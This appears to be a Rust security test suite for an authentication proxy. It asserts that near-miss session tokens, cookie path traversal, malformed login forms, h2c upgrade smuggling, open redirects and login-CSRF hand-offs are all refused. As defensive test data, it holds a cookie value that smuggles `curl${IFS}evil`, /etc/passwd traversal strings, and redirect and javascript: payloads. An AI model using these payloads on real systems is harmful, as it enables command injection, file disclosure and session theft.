//! Sessions, login and upgrades under attack: tokens that almost match, cookies used as
//! paths, malformed login forms, redirects, and upgrade requests that try to turn a proxied
//! connection into something else.

use crate::harness::{Gate, ORIGIN, PASSWORD};

/// SonicWall CVE-2024-53704 was a token check that accepted too much. Every near miss of a
/// real token, and every malformed one, is no session at all.
#[tokio::test]
async fn only_the_exact_token_is_a_session() {
    let gate = Gate::start().await;
    let real = gate.login("alice").await;
    let mut flipped = real.clone().into_bytes();
    flipped[42] = if flipped[42] == b'A' { b'B' } else { b'A' };
    let flipped = String::from_utf8(flipped).unwrap();
    let cases = vec![
        String::new(),
        "\0".repeat(43),
        real[..42].to_string(),
        format!("{real}A"),
        format!("{real}="),
        format!(" {real}"),
        real.to_uppercase(),
        flipped,
        "A".repeat(43),
        "%00".repeat(15),
        base64_standard(&real),
    ];
    for token in cases.into_iter().filter(|t| *t != real) {
        let cookie = format!("__Host-poort={token}");
        let r = gate.request("GET", "/app/", &[("Cookie", &cookie)], b"").await;
        assert!(matches!(r.status, 400 | 401), "{token:?} was taken for a session: {}", r.status);
    }
    // Two session cookies (one planted by a sibling host) mean none.
    let two = format!("__Host-poort={real}; __Host-poort=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
    assert_eq!(gate.request("GET", "/app/", &[("Cookie", &two)], b"").await.status, 401);
    assert_eq!(gate.upstream.hits(), 0);
    assert_eq!(gate.get("/app/", Some(&real)).await.status, 200, "the real token still works");
}

fn base64_standard(t: &str) -> String {
    t.replace('-', "+").replace('_', "/")
}

/// PAN-OS CVE-2024-3400 used a cookie value as a file path. Cookie values are opaque tokens
/// here: nothing reads a file, and other cookies only pass through to apps.
#[tokio::test]
async fn cookie_values_are_never_paths() {
    let gate = Gate::start().await;
    for cookie in [
        "SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/x`curl${IFS}evil`",
        "__Host-poort=../../../../etc/passwd",
        "__Host-poort-csrf=../../x; lang=../../../etc/passwd",
    ] {
        let r = gate.request("GET", "/app/", &[("Cookie", cookie)], b"").await;
        assert_eq!(r.status, 401, "{cookie}");
    }
    assert_eq!(gate.upstream.hits(), 0);
}

/// CitrixBleed 2 (CVE-2025-5777) answered a malformed login form with uninitialised memory.
/// Malformed login forms get a fixed page that contains no session material.
#[tokio::test]
async fn malformed_login_forms_leak_nothing() {
    let gate = Gate::start().await;
    let other = gate.login("bob").await;
    let (cookie, field) = gate.login_form().await;
    let bodies = [
        "login".to_string(),
        "username".to_string(),
        "username=&password=".to_string(),
        format!("csrf={field}&username"),
        format!("csrf={field}&username=alice&username=bob&password=x"),
        format!("csrf={field}&%ZZ=1"),
        "\u{0}\u{0}\u{0}".to_string(),
        format!("csrf={field}&username={}", "a".repeat(20_000)),
    ];
    for body in bodies {
        let headers = [
            ("Origin", ORIGIN),
            ("Content-Type", "application/x-www-form-urlencoded"),
            ("Cookie", &format!("__Host-poort-csrf={cookie}")),
        ];
        let r = gate.request("POST", "/.poort/login", &headers, body.as_bytes()).await;
        assert!(matches!(r.status, 400 | 401 | 403), "{:?}: {}", &body[..body.len().min(40)], r.status);
        assert!(r.cookie("__Host-poort").is_none());
        assert!(!r.text().contains(&other), "another session's token appeared in the answer");
    }
    let wrong_type = gate
        .request(
            "POST",
            "/.poort/login",
            &[("Origin", ORIGIN), ("Content-Type", "text/plain"), ("Cookie", &format!("__Host-poort-csrf={cookie}"))],
            format!("csrf={field}&username=alice&password={PASSWORD}").as_bytes(),
        )
        .await;
    assert_eq!(wrong_type.status, 400, "only urlencoded forms are read");
}

/// Upgrades: only a WebSocket to an app that answers 101 switches protocols, and only with a
/// session; h2c and other upgrades never reach an upstream.
#[tokio::test]
async fn upgrade_requests_cannot_escape_the_proxy() {
    let gate = Gate::start().await;
    let s = gate.login("alice").await;
    let ws = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n";
    // Without a session: no upgrade, nothing reaches the upstream.
    let req = format!("GET /ws/echo HTTP/1.1\r\nHost: localhost\r\n{ws}Connection: close\r\n\r\n");
    assert_eq!(gate.hostile(req.as_bytes()).await, (Some(401), 0));
    // To an app that does not answer 101, the answer is an ordinary response.
    let upgrade_then_close = ws.replace("Connection: Upgrade", "Connection: Upgrade, close");
    let req = format!("GET /app/ HTTP/1.1\r\nHost: localhost\r\nCookie: __Host-poort={s}\r\n{upgrade_then_close}\r\n");
    let (status, hits) = gate.hostile(req.as_bytes()).await;
    assert_eq!((status, hits), (Some(200), 1));
    // h2c (request smuggling through an upgrade): the upgrade headers are dropped.
    let req = format!(
        "GET /app/h2c HTTP/1.1\r\nHost: localhost\r\nCookie: __Host-poort={s}\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings, close\r\n\r\n"
    );
    let (status, _) = gate.hostile(req.as_bytes()).await;
    assert_eq!(status, Some(200));
    let seen = gate.upstream.last();
    assert_eq!(seen.target, "/h2c");
    assert_eq!(seen.header("upgrade"), None);
    assert_eq!(seen.header("http2-settings"), None);
    // A tunnel upgrade for a service that does not exist.
    let req = format!(
        "GET /.poort/tunnel/../ssh HTTP/1.1\r\nHost: localhost\r\nCookie: __Host-poort={s}\r\n{ws}Connection: close\r\n\r\n"
    );
    assert!(matches!(gate.hostile(req.as_bytes()).await, (Some(400), 0)));
}

/// Open redirects after sign-in, in the shapes seen in the wild.
#[tokio::test]
async fn redirects_after_sign_in_stay_home() {
    let gate = Gate::start().await;
    let home = format!("{ORIGIN}/");
    for next in [
        "//evil.example",
        "///evil.example",
        "/\\evil.example",
        "\\/evil.example",
        "/%2f%2fevil.example",
        "/%5cevil.example",
        "https:evil.example",
        "https://evil.example",
        "HTTPS://evil.example",
        "//evil.example@localhost",
        "https://localhost:8443@evil.example/",
        "https://localhost:8443.evil.example/",
        "javascript:alert(document.cookie)",
        "data:text/html,<script>alert(1)</script>",
        "/\t/evil.example",
        "/\r\n/evil.example",
        " //evil.example",
        "/.poort/../..//evil.example",
    ] {
        let r = gate.try_login("alice", PASSWORD, next).await;
        assert_eq!(r.status, 303, "{next:?}");
        assert_eq!(r.header("location"), Some(home.as_str()), "{next:?}");
    }
}

/// A hand-off code works only in the browser that asked for it: a code from an attacker's own
/// session, opened in a victim's browser, does not make the app host see the attacker (login
/// CSRF, a session swap). Refusals and redemptions are audited.
#[tokio::test]
async fn a_hand_off_code_cannot_push_a_session_into_another_browser() {
    let gate = Gate::start().await;
    // The attacker (bob) starts a hand-off in their own browser and keeps the code.
    let bob = gate.login("bob").await;
    let html = [("Host", "git.localhost"), ("Accept", "text/html")];
    let start = gate.request("GET", "/repo", &html, b"").await;
    let bobs_nonce = start.cookie("__Host-poort-handoff").unwrap();
    let begin = start.header("location").unwrap().trim_start_matches(crate::harness::ORIGIN).to_string();
    let r = gate.get(&begin, Some(&bob)).await;
    let code = r.header("location").unwrap().split_once("/.poort/handoff?").unwrap().1.to_string();
    // The victim's browser opens the attacker's link: it has a nonce of its own, or none.
    let victim_start = gate.request("GET", "/", &html, b"").await;
    let victims_nonce = victim_start.cookie("__Host-poort-handoff").unwrap();
    assert_ne!(victims_nonce, bobs_nonce);
    for cookie in [Some(format!("__Host-poort-handoff={victims_nonce}")), None] {
        let mut h = vec![("Host", "git.localhost")];
        if let Some(c) = &cookie {
            h.push(("Cookie", c));
        }
        let r = gate.request("GET", &format!("/.poort/handoff?{code}"), &h, b"").await;
        assert_eq!(r.status, 403, "{cookie:?}");
        assert!(r.cookie("__Host-poort").is_none(), "a session was set");
    }
    gate.audited("handoff_refused", |e| e["why"] == "code asked for by another browser").await;
    // The code was used up by the attempt: not even the attacker's own browser gets it now.
    let mine = format!("__Host-poort-handoff={bobs_nonce}");
    let r = gate
        .request("GET", &format!("/.poort/handoff?{code}"), &[("Host", "git.localhost"), ("Cookie", &mine)], b"")
        .await;
    assert_eq!(r.status, 403);
    assert!(gate.audit("handoff_redeemed").is_empty());
    // The legitimate way still works, and is audited.
    let alice = gate.login("alice").await;
    let git = crate::harness::hand_off(&gate, &alice, "git.localhost", "/repo").await;
    assert!(!git.is_empty());
    assert_eq!(gate.audit("handoff_redeemed")[0]["user"], "alice");
}

/// Refused hand-offs need no sign-in, so they are rate-limited and counted like every
/// refusal: a flood neither grows the audit log one record a request nor goes on without end.
#[tokio::test]
async fn refused_hand_offs_are_limited_and_counted() {
    let gate = Gate::start_config("", "[login]\nper_address_per_minute = 20\n").await;
    let mut refused = 0u64;
    let mut limited = 0;
    for i in 0..40 {
        let r = gate.request("GET", &format!("/.poort/handoff?code=x{i}"), &[("Host", "git.localhost")], b"").await;
        match r.status {
            403 => refused += 1,
            429 => limited += 1,
            other => panic!("{other}"),
        }
    }
    assert!(limited >= 15, "{limited} of 40 limited");
    assert_eq!(gate.refusals("handoff_refused").await, refused, "every refusal is accounted for");
    assert_eq!(gate.audit("handoff_refused").len(), 1, "one record, then a count");
    let counted = gate.audit("refusals_counted");
    assert!(
        counted.iter().any(|e| e["refusal"] == "handoff_refused" && e["samples"][0] == "git.localhost"),
        "{counted:?}"
    );
}

/// A failed sign-in shows the form again with only what the form would carry: a `next` that is
/// a safe place to go and a name that is a user name, never other bytes the request posted.
#[tokio::test]
async fn a_failed_sign_in_echoes_nothing_but_the_form() {
    let gate = Gate::start().await;
    let r = gate.try_login("<b>mallory</b>", "wrong", "https://evil.example/phish").await;
    assert_eq!(r.status, 401);
    let page = r.text();
    assert!(!page.contains("evil.example"), "the foreign next came back");
    assert!(!page.contains("mallory"), "the posted name came back");
    // What the form would carry stays: a name and a place on the portal.
    let r = gate.try_login("bob", "wrong", "/app/x").await;
    assert_eq!(r.status, 401);
    assert!(r.text().contains("value=\"bob\"") && r.text().contains("/app/x"));
}

/// A script on an app that shares the portal's origin can read the user's session ids from
/// the sessions page; ending one (on any of the user's devices) still takes the person's own
/// top-level click on a portal page.
#[tokio::test]
async fn only_the_person_ends_their_sessions() {
    let gate = Gate::start().await;
    let laptop = gate.login("bob").await;
    let phone = gate.login("bob").await;
    // The other session's id, as the laptop's sessions page shows it.
    let page = gate.get("/.poort/sessions", Some(&laptop)).await.text();
    let mine = page.split("<tr>").find(|r| r.contains("this session")).unwrap().to_string();
    let phone_id = page
        .split("name=\"id\" value=\"")
        .skip(1)
        .map(|s| s.split('"').next().unwrap().to_string())
        .find(|id| !mine.contains(id.as_str()))
        .unwrap();
    let (csrf, field) = gate.login_form().await;
    let portal_page = format!("{ORIGIN}/.poort/sessions");
    let app_page = format!("{ORIGIN}/app/");
    let scripts: [&[(&str, &str)]; 3] = [
        &[
            ("Sec-Fetch-Site", "same-origin"),
            ("Sec-Fetch-Mode", "cors"),
            ("Sec-Fetch-Dest", "empty"),
            ("Referer", &app_page),
        ],
        &[
            ("Sec-Fetch-Site", "same-origin"),
            ("Sec-Fetch-Mode", "navigate"),
            ("Sec-Fetch-Dest", "iframe"),
            ("Sec-Fetch-User", "?1"),
            ("Referer", &portal_page),
        ],
        &[
            ("Sec-Fetch-Site", "same-origin"),
            ("Sec-Fetch-Mode", "navigate"),
            ("Sec-Fetch-Dest", "document"),
            ("Referer", &portal_page),
        ],
    ];
    for metadata in scripts {
        let fields = [("csrf", field.as_str()), ("id", phone_id.as_str())];
        let r = gate.post_form_from("/.poort/sessions/end", &csrf, Some(&laptop), &fields, metadata).await;
        assert_eq!(r.status, 403, "{metadata:?}");
    }
    assert_eq!(gate.status("/app/", Some(&phone)).await, 200, "the other session lives");
    let r = gate.post_form("/.poort/sessions/end", &csrf, Some(&laptop), &[("csrf", &field), ("id", &phone_id)]).await;
    assert_eq!(r.status, 303);
    crate::harness::eventually("the session ends", std::time::Duration::from_secs(3), async || {
        gate.status("/app/", Some(&phone)).await == 401
    })
    .await;
}
